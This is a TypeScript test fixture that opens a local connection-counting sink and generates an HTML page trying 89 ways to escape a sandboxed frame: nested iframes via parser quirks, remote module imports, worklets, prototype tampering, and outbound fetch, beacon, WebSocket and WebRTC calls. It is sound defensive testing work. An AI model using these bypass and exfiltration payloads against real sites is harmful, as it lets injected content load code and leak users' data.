import { createServer, type AddressInfo } from 'node:net'
import { frameScriptHash } from '../../web/src/features/chat/apps/frame-script.ts'

/** A file or module with it is one that the policy lets run, as far as a browser knows before it has asked for it. */
const allowedIntegrity = frameScriptHash.replaceAll("'", '')
/** An import map that would also be rules for prefetching. */
const rulesAsMap = (host: string) =>
  `{"imports":{"second":"http://${host}/second-map"},"scopes":{"blob:null/":{"scoped":"http://${host}/scoped-map"}},"prefetch":[{"urls":["http://${host}/prefetch"],"eagerness":"immediate"}]}`

/** A host of this computer that counts who connects to it. */
export async function openSink() {
  const connections: string[] = []
  const server = createServer((socket) => {
    connections.push('a connection')
    const number = connections.length - 1
    socket
      .on('error', () => undefined)
      .once('data', (data) => {
        connections[number] = data.toString('latin1').split('\r\n', 1)[0] ?? ''
        socket.destroy()
      })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`
  return { host, connections, close: () => void server.close() }
}

/** What `frameWays` reports where the sandbox holds. */
export const nothingOpened = { ran: [], made: [], rtc: [], tried: 89 }

/**
 * The ways out of a frame: a document that tries each way by which a script, a parser or a browser may open a frame inside the frame, bring
 * in code, or connect to somewhere. Its `output` is JSON of what it got. What leads away from the document itself has tests of its own.
 * @param host a host with a port that must never be connected to
 */
export const frameWays = (
  host: string,
) => `<!doctype html><html><head><link rel="preconnect" href="http://${host}"></head>
<body><iframe srcdoc="&lt;script>top.postMessage('source','*');parent.postMessage('source','*')&lt;/script>"></iframe><output></output>
<script type="importmap">{"imports":{"mapped":"http://${host}/import-map","folder/":"http://${host}/mapped-folder/","text":"data:text/javascript,import 'http://${host}/mapped-text'","https://import.invalid/":"http://${host}/mapped-address","allowed":"http://${host}/mapped-with-integrity"},"integrity":{"http://${host}/mapped-with-integrity":"${allowedIntegrity}"}}</script>
<script type="importmap">${rulesAsMap(host)}</script>
<script type="importmap" src="http://${host}/map-file"></script>
<script type="module">import 'http://${host}/module-of-the-page'</script>
<script type="module">import 'mapped'</script>
<script type="module" src="http://${host}/module-file-of-the-page"></script>
<script src="http://${host}/file-of-the-page"></script>
<script>import('http://${host}/first')</script>
<img src="data:," onerror="import('http://${host}/handler-of-the-page')">
<svg onload="import('http://${host}/onload-of-a-picture')"><script>import('http://${host}/script-of-a-picture')</script><script href="http://${host}/file-of-a-picture"></script><image href="http://${host}/image-of-a-picture" /><use href="http://${host}/use#a" /></svg>
<script>
var ran = [], made = [], rtc = []
addEventListener('message', function (event) { if (typeof event.data === 'string') ran.push(event.data) })
var inner = '<script>parent.postMessage("script " + typeof RTCPeerConnection, "*");try{var p=new RTCPeerConnection({iceServers:[{urls:"turn:${host}?transport=tcp",username:"secret",credential:"x"}]});p.createDataChannel("d");p.createOffer().then(function(o){return p.setLocalDescription(o)})}catch(e){}<\\/script><link rel=preconnect href="http://${host}"><body onload="parent.postMessage(\\'attribute\\',\\'*\\')"><svg><script>parent.postMessage("svg","*")<\\/script></svg>'
var quoted = inner.replace(/&/g, '&amp;').replace(/"/g, '&quot;')
var html = '<iframe srcdoc="' + quoted + '"></iframe><IFRAME src="javascript:parent.postMessage(1,0)"></IFRAME><link rel="preconnect" href="http://${host}"><object type="text/html"></object><embed type="text/html"><frameset><frame src="about:blank"></frameset>'
var xhtml = 'http://www.w3.org/1999/xhtml'
function fill(frame) { frame.srcdoc = inner; document.body.append(frame); return frame }
function add() { var node = document.createElement('div'); document.body.append(node); return node }
var ways = {
  create: function () { var frame = fill(document.createElement('iframe')); rtc.push(typeof frame.contentWindow.RTCPeerConnection) },
  createByObject: function () { fill(document.createElement({ toString: function () { return 'IFrame' } })) },
  namespace: function () { fill(document.createElementNS(xhtml, 'h:iframe')) },
  hint: function () { var link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'http://${host}'; document.head.append(link) },
  createDocument: function () { fill(document.implementation.createDocument(xhtml, 'iframe', null).documentElement) },
  otherDocument: function () { fill(document.adoptNode(document.implementation.createHTMLDocument('').createElement('iframe'))) },
  otherWrite: function () { var other = document.implementation.createHTMLDocument(''); other.write(html); document.body.append(other.documentElement) },
  innerHTML: function () { add().innerHTML = html },
  outerHTML: function () { add().outerHTML = html },
  adjacent: function () { document.body.insertAdjacentHTML('beforeend', html) },
  range: function () { document.body.append(document.createRange().createContextualFragment(html)) },
  parse: function () { document.body.append(document.importNode(new DOMParser().parseFromString(html, 'text/html').body, true)) },
  parsePrefix: function () {
    ['x', '_', 'a-b.c', '\\u1680', '\\ufeff'].forEach(function (prefix) {
      var name = '<' + prefix + ':'
      document.body.append(new DOMParser().parseFromString(name + 'a xmlns:' + prefix + '="' + xhtml + '">' + name + 'iframe srcdoc="a"/>' + name + 'link rel="preconnect" href="http://${host}"/></' + prefix + ':a>', 'application/xhtml+xml').documentElement)
    })
  },
  parseEntity: function () { document.body.append(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e "&#60;iframe/>">]><a xmlns="' + xhtml + '">&e;</a>', 'application/xhtml+xml').documentElement) },
  shadow: function () { add().attachShadow({ mode: 'closed' }).innerHTML = html },
  declaredShadow: function () { add().setHTMLUnsafe('<p><template shadowrootmode="open">' + html + '</template></p>') },
  parseUnsafe: function () { document.body.append(Document.parseHTMLUnsafe(html).body) },
  sanitizer: function () { add().setHTML(html, { sanitizer: { elements: ['iframe', 'link'], attributes: ['srcdoc', 'rel', 'href'] } }) },
  template: function () { var node = document.createElement('template'); node.innerHTML = html; document.body.append(node.content.cloneNode(true)) },
  foreign: function () { add().innerHTML = '<svg><foreignObject>' + html + '</foreignObject><style><p>' + html + '</style></svg><math><mtext>' + html + '</mtext></math>' },
  foreignContext: function () { var svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); add().append(svg); svg.innerHTML = '<style><p>' + html + '</style>' },
  write: function () { document.write(html) },
  writeParts: function () { document.write('<ifr'); document.write('ame srcdoc="' + quoted + '"></iframe><li'); document.write('nk rel=preconnect href="http://${host}">') },
  command: function () { var node = add(); node.contentEditable = true; node.focus(); getSelection().selectAllChildren(node); document.execCommand('insertHTML', false, html) },
  builtIn: function () { var Frame = class extends HTMLIFrameElement {}; customElements.define('a-frame', Frame, { extends: 'iframe' }); fill(new Frame()) },
  moved: function () {
    window.other = document.implementation.createHTMLDocument('').body
    customElements.define('x-mover', class extends HTMLElement { connectedCallback() { if (!this.isMoved) { this.isMoved = true; other.append(this) } } })
    var mover = '<script>other.append(document.currentScript.parentNode)<\\/script>'
    document.write('<div>' + mover + html + '</div><p>' + mover + '<x-mover>' + html + '</x-mover>' + html)
    add().innerHTML = '<x-mover>' + html + '</x-mover>'
    document.body.append(document.adoptNode(other))
  },
  fostered: function () { document.write('<table><tr>' + html + '<b><p></b>' + html + '</table>') },
  speculate: function () {
    var rules = JSON.stringify({ prefetch: [{ urls: ['http://${host}/'], eagerness: 'immediate' }], prerender: [{ urls: ['http://${host}/'], eagerness: 'immediate' }] })
    var script = document.createElement('script')
    script.type = 'speculationrules'
    script.textContent = rules
    document.head.append(script)
    document.write('<script type="speculationrules">' + rules + '<\\/script>')
  },
  transform: function () {
    var sheet = new XSLTProcessor()
    sheet.importStylesheet(new DOMParser().parseFromString('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><x:element name="i{&quot;frame&quot;}" namespace="' + xhtml + '"/></x:template></x:stylesheet>', 'text/xml'))
    document.body.append(sheet.transformToFragment(document, document))
  },
  download: function () { var request = new XMLHttpRequest(); request.responseType = 'document'; if (request.responseType === 'document') made.push('document by request') },
  policy: function () { trustedTypes.createPolicy('mine', { createHTML: function (text) { return text } }); made.push('policy') },
  open: function () { if (open('about:blank')) made.push('window') },
  worker: function () { new Worker(URL.createObjectURL(new Blob(['postMessage("worker")']))).onmessage = function (event) { ran.push(event.data) } },
  self: function () { new RTCPeerConnection(); made.push('RTCPeerConnection') },
  import: function () { import('http://${host}/import') },
  importInTimer: function () { setTimeout('import("http://${host}/import-in-timer")') },
  importInFunction: function () { new Function('import("http://${host}/import-in-function")')() },
  importOfText: function () { import('data:text/javascript,import "http://${host}/import-of-text"') },
  importOfBlob: function () { import(createAddress('import "http://${host}/import-of-blob"')) },
  importOfBlobLater: function () { import(createAddress('import("http://${host}/import-of-blob-later")')) },
  importJson: function () { run('import a from "http://${host}/json" with { type: "json" }', 'module') },
  importStyle: function () { run('import a from "http://${host}/style-module" with { type: "css" }', 'module') },
  importMapped: function () { run('{"imports":{"later":"http://${host}/later-map"}}', 'importmap'); import('later') },
  importOfMaps: function () { ['mapped', 'folder/file', 'text', 'https://import.invalid/', 'allowed', 'second'].forEach(function (name) { import(name).catch(function () {}) }) },
  importOfScope: function () { run('import "scoped"', 'module') },
  importOfKnownMap: function () { run('${rulesAsMap(host)}', 'importmap'); run('import "second"', 'module') },
  mapAsRules: function () { run('${rulesAsMap(host)}', 'speculationrules'); run(JSON.stringify(JSON.parse('${rulesAsMap(host)}'), ['imports', 'second', 'scopes']), 'speculationrules') },
  fileWithIntegrity: function () { load('script', { src: 'http://${host}/file-with-integrity', integrity: '${allowedIntegrity}', crossorigin: 'anonymous' }) },
  moduleWithIntegrity: function () { load('script', { type: 'module', src: 'http://${host}/module-with-integrity', integrity: '${allowedIntegrity}' }) },
  moduleOfScript: function () { run('import "http://${host}/module-of-script"', 'module') },
  moduleWritten: function () { document.write('<script type="module">import "http://${host}/module-written"<\\/script><script type="module" src="http://${host}/module-file-written"><\\/script>') },
  moduleFile: function () { load('script', { type: 'module', src: 'http://${host}/module-file' }) },
  modulePreload: function () { load('link', { rel: 'modulepreload', href: 'http://${host}/module-preload' }) },
  file: function () { load('script', { src: 'http://${host}/file' }) },
  fileWritten: function () { document.write('<script src="http://${host}/file-written"><\\/script>') },
  fileOfPicture: function () { var script = document.createElementNS('http://www.w3.org/2000/svg', 'script'); script.setAttribute('href', 'http://${host}/picture-file'); document.body.append(script) },
  secondStage: function () { run('var stage = document.createElement("script"); stage.text = decodeURIComponent("eval(%22import(%27http://${host}/second-stage%27)%22)"); document.body.append(stage)') },
  handler: function () { add().setAttribute('onclick', 'import("http://${host}/handler")'); document.body.lastChild.click() },
  handlerWritten: function () { add().innerHTML = '<img src="data:," onerror="import(\\'http://${host}/handler-written\\')"><svg onload="import(\\'http://${host}/onload-written\\')"></svg>' },
  address: function () { load('a', { href: 'javascript:import("http://${host}/address")' }).click() },
  audioWorklet: function () { new AudioContext().audioWorklet.addModule('http://${host}/audio-worklet') },
  audioWorkletOfBlob: function () { new AudioContext().audioWorklet.addModule(createAddress('import "http://${host}/audio-worklet-of-blob"')) },
  paintWorklet: function () { CSS.paintWorklet.addModule('http://${host}/paint-worklet') },
  paintWorkletOfBlob: function () { CSS.paintWorklet.addModule(createAddress('import "http://${host}/paint-worklet-of-blob"')) },
  moduleWorker: function () { new Worker(createAddress('import "http://${host}/module-worker"; postMessage("module worker")'), { type: 'module' }).onmessage = function (event) { ran.push(event.data) } },
  sharedWorker: function () { var worker = new SharedWorker(createAddress('importScripts("http://${host}/shared-worker")')); worker.port.start(); worker.onerror = function () {} },
  serviceWorker: function () { navigator.serviceWorker.register('http://${host}/service-worker') },
  fetch: function () { fetch('http://${host}/fetch', { mode: 'no-cors' }) },
  fetchKept: function () { fetch('http://${host}/fetch-kept', { mode: 'no-cors', keepalive: true }) },
  fetchLater: function () { fetchLater('http://${host}/fetch-later', { activateAfter: 0 }) },
  request: function () { var request = new XMLHttpRequest(); request.open('GET', 'http://${host}/request'); request.send() },
  beacon: function () { navigator.sendBeacon('http://${host}/beacon', 'secret') },
  socket: function () { new WebSocket('ws://${host}/socket') },
  events: function () { new EventSource('http://${host}/events') },
  transport: function () { new WebTransport('https://${host}/transport') },
  image: function () { new Image().src = 'http://${host}/image' },
  imageSet: function () { load('img', { srcset: 'http://${host}/image-set 1x' }) },
  media: function () { load('video', { src: 'http://${host}/video', poster: 'http://${host}/poster', preload: 'auto' }); new Audio('http://${host}/audio').load() },
  track: function () { var video = load('video', {}), track = document.createElement('track'); track.src = 'http://${host}/track'; track.default = true; video.append(track) },
  style: function () { add().innerHTML = '<style>@import "http://${host}/style"; div { background: url(http://${host}/background); list-style: url(http://${host}/list); cursor: url(http://${host}/cursor), auto; filter: url(http://${host}/filter#a) }</style>' },
  styleFile: function () { load('link', { rel: 'stylesheet', href: 'http://${host}/style-file' }) },
  styleOfScript: function () { var sheet = new CSSStyleSheet(); sheet.replaceSync('div { border-image: url(http://${host}/border) }'); document.adoptedStyleSheets = [sheet] },
  font: function () { new FontFace('a', 'url(http://${host}/font)').load() },
  icon: function () { load('link', { rel: 'icon', href: 'http://${host}/icon' }) },
  manifest: function () { load('link', { rel: 'manifest', href: 'http://${host}/manifest' }) },
  form: function () { var form = load('form', { action: 'http://${host}/form', method: 'post' }); form.requestSubmit() },
  ping: function () { load('a', { href: '#', ping: 'http://${host}/ping' }).click() },
  reports: function () { load('meta', { 'http-equiv': 'Content-Security-Policy', content: "img-src 'none'; report-uri http://${host}/reports" }); new Image().src = 'data:,' },
  tamper: function () {
    String.prototype.replace = String.prototype.toLowerCase = function () { return String(this) }
    RegExp.prototype.exec = function () { return null }
    RegExp.prototype[Symbol.replace] = function (text) { return text }
    Reflect.apply = function () {}
    Object.prototype.iframe = Object.prototype.link = 'iframe'
    add().innerHTML = html
    fill(document.createElement('iframe'))
  },
}
function createAddress(code) { return URL.createObjectURL(new Blob([code], { type: 'text/javascript' })) }
function load(name, attributes) {
  var element = document.createElement(name)
  Object.keys(attributes).forEach(function (key) { element.setAttribute(key, attributes[key]) })
  document.body.append(element)
  return element
}
function run(code, type) { var script = document.createElement('script'); if (type) script.type = type; script.text = code; document.body.append(script) }
var banned = [HTMLIFrameElement, HTMLFrameElement, HTMLLinkElement, HTMLObjectElement, HTMLEmbedElement]
function search(way, root) {
  root.querySelectorAll('*').forEach(function (element) {
    if (banned.some(function (type) { return element instanceof type })) { made.push(way + ' ' + element.localName); element.remove() }
    if (element.shadowRoot) search(way, element.shadowRoot)
  })
}
Object.keys(ways).forEach(function (way) {
  try { ways[way]() } catch (error) {}
  search(way, document)
  if (frames.length > 0) made.push(way + ' frame')
})
delete Object.prototype.iframe
delete Object.prototype.link
setTimeout(function () {
  var output = document.querySelector('output')
  document.body.prepend(output)
  output.textContent = JSON.stringify({ ran: ran, made: made, rtc: rtc, tried: Object.keys(ways).length })
}, 300)
</script></body></html>`
